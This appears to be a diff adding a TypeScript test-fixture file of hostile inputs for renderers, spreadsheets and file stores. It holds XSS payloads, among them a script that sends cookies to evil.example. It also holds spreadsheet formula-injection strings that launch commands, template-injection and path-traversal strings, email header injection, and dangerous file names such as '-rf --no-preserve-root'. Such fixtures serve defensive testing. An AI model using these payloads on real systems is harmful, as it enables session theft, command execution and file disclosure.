@@ -1,0 +1,55 @@
+/** Texts that break careless renderers, spreadsheets and archives. Each is stored exactly as written. */
+export const hostileHtml: readonly string[] = [
+  `<p>Look: <script>document.location='https://evil.example/?c='+document.cookie</script>done</p>`,
+  `<p onclick="alert(1)">click <a href="javascript:alert(document.domain)">here</a> <a href="JaVaScRiPt&colon;alert(1)">or here</a></p>`,
+  `<div><div><div><p>never closed <b>bold <i>italic`,
+  `<p></p></p></div></div>stray closings</span> 1 < 2 &amp;&amp; 3 > 2 &lt;b&gt;not bold&lt;/b&gt;</p>`,
+  `<img src=x onerror=alert(1)><svg/onload=alert(2)><iframe src="file:///etc/passwd"></iframe><p>after</p>`,
+  `<p>&#x202E;gnp.exe&#x202C; &nbsp;&shy;&zwnj;&#0;&#xFFFF;&bogus; &amp;amp;</p>`,
+  `<style>*{display:none}</style><p style="position:fixed;top:0;font-size:9999px;background:url(http://evil.example/t.gif)">big</p>`,
+  `<table><tr><td>a<td>b<tr><td colspan="9999">c</table><p>${"&#x1F600;".repeat(40)}</p>`,
+  `<!-- comment <p>inside</p> --><![CDATA[cdata]]><?php echo 1 ?><p>after</p><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `${"<div>".repeat(1_500)}deep${"</div>".repeat(1_500)}`,
+];
+
+export const hostileTexts: readonly string[] = [
+  `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "'already quoted",
+  `a "quoted", comma; semicolon\r\nsecond line\nthird line`,
+  "zalgo: Z̸̢̛͓͚̈́͒a̷̘͂l̵̰̇g̷͖̑o̴̧̽ and \u202Eright-to-left override\u202C and \u200Bzero\u200Bwidth",
+  "lone surrogates cannot travel in JSON, but \uFFFD and \u0001 control \u0007 characters can",
+  "👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🇩🇪🇯🇵 ☺️ ✋🏽 🧑‍🤝‍🧑 e\u0301 ﷽ 𝕳𝖊𝖑𝖑𝖔 𓀀",
+  `${"very long word ".repeat(20)}${"W".repeat(3_000)}`,
+  `From attacker@evil.example\r\n\r\nSubject: injected\r\n.\r\n`,
+  "{{constructor.constructor('return process')()}} ${7*7} %s %n ../../../etc/passwd",
+];
+
+/** File names as a hostile or careless person chooses them. SharePoint would refuse some of them; other stores do not. */
+export const hostileFileNames: readonly string[] = [
+  "../../../../etc/passwd",
+  "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
+  "/absolute/path.txt",
+  "C:\\Users\\Public\\autoexec.bat",
+  "CON",
+  "nul.txt",
+  "LPT1.docx",
+  "trailing dots...",
+  "trailing space ",
+  ".hidden",
+  "-rf --no-preserve-root",
+  `${"x".repeat(300)}.pdf`,
+  `${"長い名前".repeat(40)}.docx`,
+  "annual\u202Efdp.exe",
+  "tab\tand\nnewline.txt",
+  "bell\u0007null\u0000char.txt",
+  `quotes "and" <angle> |pipe| ?question* colon:stream.txt`,
+  "%2e%2e%2f%2e%2e%2fencoded.txt",
+  "100% sure #1 & more+plus.txt",
+  "",
+  "~$lock.docx",
+  "=1+1.csv",
+];
